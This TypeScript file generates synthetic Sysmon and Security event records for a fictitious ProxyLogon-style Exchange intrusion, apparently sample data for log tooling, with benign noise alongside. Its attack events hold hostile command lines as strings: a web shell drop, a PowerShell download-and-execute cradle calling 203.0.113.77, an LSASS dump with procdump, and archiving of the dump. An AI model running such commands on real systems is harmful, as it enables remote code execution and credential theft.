import type { SampleEvent } from './writer.js';

/**
 * A small, made-up intrusion on an Exchange server in the style of March 2021 (ProxyLogon): a web
 * shell under IIS spawns commands, LSASS is dumped, data is staged; around it, ordinary activity.
 * Host names, users and addresses are fictitious (documentation ranges).
 */

export const SYSMON = { provider: 'Microsoft-Windows-Sysmon', providerGuid: '5770385F-C22A-43E0-BF4C-06F5698FFBD9', channel: 'Microsoft-Windows-Sysmon/Operational', keywords: 0x8000000000000000n, level: 4, processId: 2216, threadId: 3400, userSid: 'S-1-5-18' };
export const SECURITY = { provider: 'Microsoft-Windows-Security-Auditing', providerGuid: '54849625-5478-4994-A5BA-3E3B0328C30D', channel: 'Security', keywords: 0x8020000000000000n, level: 0, processId: 640, threadId: 712 };
const HOST = 'EXCH01.corp.example';
const START = Date.UTC(2021, 2, 3, 2, 10, 0);

/** Where and when an event happened: its host, and milliseconds since 1970. */
export interface At {
  host: string;
  time: number;
}

const sysmonTime = (time: number) => new Date(time).toISOString().replace('T', ' ').slice(0, 23);

/** A Sysmon process creation (event 1). */
export function processCreate(at: At, image: string, commandLine: string, parentImage: string, user: string, pid: number): SampleEvent {
  return {
    ...SYSMON, eventId: 1, version: 5, task: 1, time: at.time, computer: at.host,
    data: [
      ['RuleName', '-'], ['UtcTime', sysmonTime(at.time)],
      ['ProcessGuid', `{3C5B1B5A-0E2F-603F-${(0x1000 + pid).toString(16).toUpperCase()}-000000000900}`], ['ProcessId', pid],
      ['Image', image], ['CommandLine', commandLine], ['CurrentDirectory', 'C:\\Windows\\system32\\inetsrv\\'],
      ['User', user], ['IntegrityLevel', 'System'], ['ParentImage', parentImage],
    ],
  };
}

/** A Sysmon file creation (event 11). */
export function fileCreate(at: At, image: string, target: string): SampleEvent {
  return {
    ...SYSMON, eventId: 11, version: 2, task: 11, time: at.time, computer: at.host,
    data: [['RuleName', '-'], ['UtcTime', sysmonTime(at.time)], ['ProcessId', 4120], ['Image', image], ['TargetFilename', target]],
  };
}

/** A successful logon (Security 4624). */
export function logon(at: At, user: string, ip: string, logonType: number): SampleEvent {
  return {
    ...SECURITY, eventId: 4624, version: 2, task: 12544, time: at.time, computer: at.host,
    data: [['SubjectUserSid', 'S-1-5-18'], ['TargetUserName', user], ['TargetDomainName', 'CORP'], ['LogonType', logonType], ['IpAddress', ip], ['IpPort', '0']],
  };
}

/** The sample's clock: seconds after its start. */
const t = (seconds: number): At => ({ host: HOST, time: START + seconds * 1000 });

export const W3WP = 'C:\\Windows\\System32\\inetsrv\\w3wp.exe';

export function* sampleSysmonEvents(): Generator<SampleEvent> {
  // Ordinary activity: scheduled maintenance and admin shells.
  for (let i = 0; i < 120; i++) {
    yield processCreate(t(i * 30 - 4000), 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p', 'C:\\Windows\\System32\\services.exe', 'NT AUTHORITY\\SYSTEM', 900 + i);
  }
  yield fileCreate(t(10), W3WP, 'C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\shell.aspx');
  yield processCreate(t(42), 'C:\\Windows\\System32\\cmd.exe', 'cmd /c whoami /all', W3WP, 'NT AUTHORITY\\SYSTEM', 5120);
  yield processCreate(t(65), 'C:\\Windows\\System32\\cmd.exe', 'cmd /c net group "Domain Admins" /domain', W3WP, 'NT AUTHORITY\\SYSTEM', 5144);
  yield processCreate(t(120), 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'powershell -ep bypass -c "IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.77/a.ps1\')"', W3WP, 'NT AUTHORITY\\SYSTEM', 5300);
  yield processCreate(t(300), 'C:\\ProgramData\\procdump64.exe', 'C:\\ProgramData\\procdump64.exe -accepteula -ma lsass.exe C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 5422);
  yield fileCreate(t(302), 'C:\\ProgramData\\procdump64.exe', 'C:\\ProgramData\\lsass.dmp');
  yield processCreate(t(600), 'C:\\ProgramData\\7za.exe', 'C:\\ProgramData\\7za.exe a C:\\ProgramData\\out.7z C:\\ProgramData\\lsass.dmp', 'C:\\Windows\\System32\\cmd.exe', 'NT AUTHORITY\\SYSTEM', 5530);
}

export function* sampleSecurityEvents(): Generator<SampleEvent> {
  for (let i = 0; i < 60; i++) yield logon(t(i * 60 - 3600), `svc_backup`, '10.0.0.12', 3);
  yield logon(t(40), 'Administrator', '198.51.100.23', 3);
  yield logon(t(310), 'Administrator', '198.51.100.23', 10);
}
